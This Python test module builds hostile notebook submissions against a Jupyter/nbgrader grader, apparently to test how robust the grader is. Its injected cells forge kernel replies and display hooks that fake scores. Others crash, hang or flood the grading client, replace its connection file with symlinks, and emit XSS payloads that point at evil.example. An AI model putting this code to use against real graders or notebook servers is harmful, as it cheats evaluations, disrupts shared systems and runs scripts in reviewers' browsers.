"""Submissions that speak to the grader's Jupyter client behind their kernel's back, and flood or starve it."""

from hostile import ALL, NOTHING, TOKENS, all_wrong, answer, before, first, hostile, last

SPEAK = """
import json, os, time
kernel = get_ipython().kernel
session, iopub = kernel.session, kernel.iopub_socket

def publish(kind, content, parent=None):
    session.send(iopub, kind, content, parent=parent or kernel.get_parent("shell"), ident=kind.encode())

def raw(*frames):
    iopub.send_multipart([frame if isinstance(frame, bytes) else json.dumps(frame).encode() for frame in frames])

def signed(*parts):
    parts = [part if isinstance(part, bytes) else json.dumps(part).encode() for part in parts]
    return [b"<IDS|MSG>", session.sign(parts), *parts]

def header(kind, **more):
    return {"msg_id": os.urandom(8).hex(), "msg_type": kind, "username": "", "session": "x",
            "date": "2026-01-01T00:00:00Z", "version": "5.3", **more}

"""


def speak(notebook, code, at="tokens-per-second-visible"):
    before(notebook, at, SPEAK.strip() + "\n\n" + code.strip())


@hostile(tries="gain points", layer="client")
def forges_replies(notebook):
    """Outputs, replies and states of cells that did not run, for every message that may come."""
    all_wrong(notebook)
    speak(
        notebook,
        """
for kind, content in [
    ("execute_result", {"data": {"text/plain": "100.0"}, "metadata": {}, "execution_count": 1}),
    ("execute_reply", {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}),
    ("status", {"execution_state": "idle"}), ("clear_output", {"wait": False}), ("shutdown_reply", {"restart": False}),
]:
    publish(kind, content)
    publish(kind, content, parent={"header": header("execute_request")})
""",
    )


@hostile(tries="kill the grader", layer="client", earns=ALL, may_lose=ALL)
def malformed_contents(notebook):
    """Signed messages whose contents lack what a client takes for granted, or have it in another type."""
    speak(
        notebook,
        """
for kind in ("stream", "display_data", "execute_result", "update_display_data", "error", "status", "clear_output",
             "execute_input", "comm_open", "comm_msg", "comm_close", "execute_reply", "no_such_type", "input_request"):
    for content in ({}, {"text": 5, "name": []}, {"data": [], "metadata": 5, "transient": 7, "execution_count": "x"},
                    {"data": {"text/plain": {"a": 1}}, "metadata": {}, "transient": {"display_id": []}},
                    {"ename": None, "evalue": {}, "traceback": 3}, {"execution_state": []},
                    {"comm_id": [], "data": {"method": 1}, "target_name": {}},
                    {"comm_id": "c", "data": {"state": 1, "buffer_paths": [[1]]}, "target_name": "jupyter.widget"}):
        publish(kind, content)
""",
    )


@hostile(tries="kill the grader", layer="client", earns=ALL, may_lose=ALL)
def malformed_frames(notebook):
    """Messages without a delimiter, with wrong signatures, of text that is no JSON, or of JSON that is no message."""
    speak(
        notebook,
        """
good = header("stream")
raw(b"")
raw(b"stream")
raw(b"stream", b"<IDS|MSG>")
raw(b"stream", b"<IDS|MSG>", b"0" * 64, good, {}, {}, {"name": "stdout", "text": "wrong signature"})
raw(b"stream", *signed(good, {}, {}, b"{"))
raw(b"stream", *signed(good, {}, {}, b"\\xff\\xfe"))
raw(b"stream", *signed({}, {}, {}, {}))
raw(b"stream", *signed([], [], [], []))
raw(b"stream", *signed(header("stream", date="yesterday"), {"msg_id": []}, {}, {"name": "stdout", "text": "x"}))
raw(b"stream", *signed(header("stream", date="0000-99-99T99:99:99"), good, {}, {"name": "stdout", "text": "x"}))
raw(b"stream", *signed(good, good, {}, b"[" * 100_000))
raw(b"stream", *signed(good, good, {}, b'{"name": "stdout", "text": "\\\\ud800"}'))
raw(b"stream", *signed(good, good, {}, b'{"name": "stdout", "text": ' + b"9" * 5000 + b"}"))
""",
    )


@hostile(tries="kill the grader", layer="client", earns=ALL, may_lose=ALL)
def replies_of_the_wrong_shape(notebook):
    """The reply to a cell, on the channel where it is awaited, without a status or with a list for one."""
    first(
        notebook,
        """
        import itertools
        shapes = itertools.cycle([{}, {"status": []}, {"status": "error"}, {"status": "aborted"}, {"status": "ok",
                                  "payload": [{"source": "set_next_input", "text": "x" * 10**7, "replace": True}]}])

        async def do_execute(*_, **__):
            return next(shapes)

        get_ipython().kernel.do_execute = do_execute
    """,
    )


@hostile(tries="hang the grader", layer="client", earns=ALL, may_lose=ALL)
def says_nothing(notebook):
    """Closes the sockets through which a kernel says that a cell has ended."""
    first(
        notebook,
        """
        kernel = get_ipython().kernel
        kernel.iopub_socket.send_multipart = lambda *_, **__: None
        kernel.session.send = lambda *_, **__: None
        kernel.shell_stream.close()
    """,
    )


@hostile(tries="hang the grader", layer="deadline", earns=ALL, may_lose=ALL)
def asks_for_input(notebook):
    """input(), getpass and a debugger wait for somebody who is not there."""
    first(
        notebook,
        """
        import getpass
        for ask in (input, getpass.getpass, get_ipython().kernel.raw_input, breakpoint):
            try:
                print(ask("your password: "))
            except BaseException as error:
                print(type(error).__name__)
    """,
    )


@hostile(tries="exhaust the grader's memory", layer="client", earns=ALL, may_lose=ALL)
def prints_a_hundred_megabytes(notebook):
    """One long line, and many short ones."""
    first(
        notebook,
        """
        print("x" * 50_000_000)
        for _ in range(500):
            print("y" * 99_999)
    """,
    )


@hostile(tries="exhaust the grader's memory", layer="client", earns=ALL, may_lose=ALL)
def shows_a_million_small_things(notebook):
    """A million display messages, and as many updates of one of them."""
    first(
        notebook,
        """
        from IPython.display import display
        handle = display("first", display_id="one")
        for n in range(500_000):
            display(n)
            handle.update(n)
    """,
    )


@hostile(tries="exhaust the grader's memory", layer="client", earns=ALL, may_lose=ALL)
def prints_from_threads_after_the_end(notebook):
    """Threads of the last cell print for as long as the kernel lives, under every parent that it had."""
    last(
        notebook,
        """
        import threading

        def talk():
            while True:
                print("z" * 10_000)

        for _ in range(8):
            threading.Thread(target=talk, daemon=True).start()
    """,
    )


@hostile(tries="gain points", layer="client")
def an_output_in_a_test_cell(notebook):
    """A hook prints a number as the result of each test cell: nbgrader takes that for the points."""
    all_wrong(notebook)
    first(
        notebook,
        """
        from IPython.display import publish_display_data
        shell = get_ipython()

        def results(*_):
            shell.displayhook.start_displayhook()
            shell.displayhook.write_output_prompt()
            shell.displayhook.write_format_data({"text/plain": "18.0"}, {})
            shell.displayhook.finish_displayhook()
            publish_display_data({"text/plain": "18.0"})

        shell.events.register("pre_run_cell", results)
        shell.events.register("post_run_cell", results)
    """,
    )


@hostile(tries="read other submissions", layer="client", earns=ALL, may_lose=ALL)
def replaces_the_connection_file(notebook):
    """Another connection file, and sockets that are links to places of the host."""
    first(
        notebook,
        """
        import glob, json, os
        folder = os.path.dirname(get_ipython().config.IPKernelApp.connection_file)
        for path in sorted(glob.glob(folder + "/*")):
            print("in the folder:", os.path.basename(path))
        path = glob.glob(folder + "/*.json")[0]
        connection = json.load(open(path))
        os.remove(path)
        for port in range(9):
            os.symlink("{SOCKET}", f"{folder}/s-{port + 50}")
        os.symlink("{UNTOUCHED}", path)
        os.symlink("{UNTOUCHED}", folder + "/calls0")
        connection["ip"], connection["key"] = "{SOCKET}", ""
        try:
            json.dump(connection, open(path, "w"))
        except OSError as error:
            print(error)
    """,
    )


@hostile(tries="kill the grader", layer="client", earns=NOTHING | TOKENS, may_lose=TOKENS)
def removes_the_sockets(notebook):
    """Removes all that lies in the folder of sockets, and makes folders of the same names that cannot be removed."""
    answer(notebook, "weight-bytes", "weight_bytes = None")
    answer(notebook, "models-that-fit", "models_that_fit = None")
    before(
        notebook,
        "weight-bytes",
        """
        import glob, os
        folder = os.path.dirname(get_ipython().config.IPKernelApp.connection_file)
        for path in glob.glob(folder + "/*"):
            os.remove(path)
            os.makedirs(path + "/" + "/".join("d" * 200 for _ in range(3)))
            os.chmod(path, 0)
        os.chmod(folder, 0)
    """,
    )


@hostile(tries="run code where the feedback is read", layer="neutralised feedback", earns=ALL)
def javascript_and_html(notebook):
    """Scripts, frames, forms and remote pictures as outputs of every kind, and magics that make them."""
    last(
        notebook,
        """
        from IPython.display import HTML, IFrame, Javascript, Latex, Markdown, SVG, display
        live = "<script>document.title='hostile-xss'</script><img src=x onerror=alert('hostile-xss')>"
        display(HTML(live), Markdown(live), Latex(live), Javascript("alert('hostile-xss')"))
        display(HTML("<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe><base href='//evil.example'>"))
        display(HTML("<form action='//evil.example'></form><meta http-equiv=refresh content='0;//evil'>"))
        display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"))
        display({"application/javascript": "alert('hostile-xss')", "text/html": live, "image/png": live}, raw=True)
        display({"application/vnd.jupyter.widget-view+json": {"model_id": "'><script>alert(1)</script>"}}, raw=True)
        print("</pre></div>" + live, "\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07")
    """,
    )
    last(notebook, "%%javascript\nalert('hostile-xss')")
    last(notebook, "%%html\n<script>alert('hostile-xss')</script>")


@hostile(tries="run code where the feedback is read", layer="neutralised feedback", earns=ALL - TOKENS)
def an_error_message_of_html(notebook):
    """The message of a failing check, the name of a class, and a traceback's lines are HTML."""
    answer(
        notebook,
        "tokens-per-second",
        """
        Error = type("<script>alert('hostile-xss')</script>", (Exception,), {})

        def tokens_per_second(arrivals_s):
            raise Error("</pre><script>alert('hostile-xss')</script> [bold red]markup[/] {{ 7 * 7 }} {% raw %}")
    """,
    )
